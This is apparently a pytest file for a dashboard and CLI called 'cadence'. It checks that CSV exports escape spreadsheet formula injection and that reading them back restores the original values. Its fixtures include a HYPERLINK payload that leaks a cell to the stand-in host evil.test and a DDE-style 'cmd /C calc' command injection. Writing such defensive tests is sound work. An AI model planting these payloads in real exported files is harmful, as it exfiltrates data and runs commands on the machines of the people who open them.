"""CSV formula injection: the dashboard download and `cadence export` write text that a
spreadsheet would run as a formula with a leading ', and `cadence report` reads it back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from cadence_client.commands.records import read_records
from cadence_client.spreadsheet import cell_from_text, text_from_cell
from fastapi.testclient import TestClient

from tests.fixtures.builders import make_run
from tests.fixtures.client import export

HOSTILE_RUN_ID = '=HYPERLINK("http://evil.test/?"&A1,"open")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),  # a spreadsheet computes it: only - is let through for numbers
        ("-2+3", "'-2+3"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-0.5", "-0.5"),  # a negative number is a number
        ("-1e3", "-1e3"),
        ("run-7", "run-7"),  # only the first character matters
        ("", ""),
        ("'quoted", "''quoted"),  # marked too, so that reading it back is exact
        ("a=b", "a=b"),
    ],
)
def test_cells_that_start_a_formula_are_marked_as_text(text: str, cell: str) -> None:
    assert cell_from_text(text) == cell
    assert text_from_cell(cell) == text


def test_a_quote_written_by_a_person_is_kept() -> None:
    assert text_from_cell("'plain") == "'plain"  # not something an export would write


def hostile_runs(client: TestClient, ingest: dict[str, str]) -> None:
    runs = [
        make_run(run_id=HOSTILE_RUN_ID, variant="@SUM(1+1)"),
        make_run(
            run_id="-2+3",
            started_at="2026-11-09T08:00:00+00:00",
            finished_at="2026-11-09T22:00:00+00:00",
            quality_value=-0.5,
        ),
    ]
    r = client.post("/api/v1/runs/batch", json={"runs": runs}, headers=ingest)
    assert r.status_code == 201, r.text


def test_dashboard_download_marks_formulas(
    client: TestClient, ingest_headers: dict[str, str]
) -> None:
    hostile_runs(client, ingest_headers)
    r = client.get("/pipelines/ranker/runs.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    by_id = {row["run_id"]: row for row in rows}
    assert set(by_id) == {"'" + HOSTILE_RUN_ID, "'-2+3"}
    assert by_id["'" + HOSTILE_RUN_ID]["variant"] == "'@SUM(1+1)"
    assert by_id["'-2+3"]["quality_value"] == "-0.5"  # numbers stay numbers


def test_cadence_export_marks_formulas_and_report_reads_them_back(
    client: TestClient,
    ingest_headers: dict[str, str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    hostile_runs(client, ingest_headers)
    target = tmp_path / "export.csv"
    assert export(client, "--pipeline", "ranker", "--output", str(target)) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert sorted(r["run_id"] for r in rows) == sorted(["'" + HOSTILE_RUN_ID, "'-2+3"])
    assert {r["variant"] for r in rows} == {"'@SUM(1+1)", "baseline"}
    # `cadence report` of the export posts the original values again.
    back = {r.run["run_id"]: r.run for r in read_records(target)}
    assert set(back) == {HOSTILE_RUN_ID, "-2+3"}
    assert back[HOSTILE_RUN_ID]["variant"] == "@SUM(1+1)"
    assert back["-2+3"]["quality_value"] == -0.5
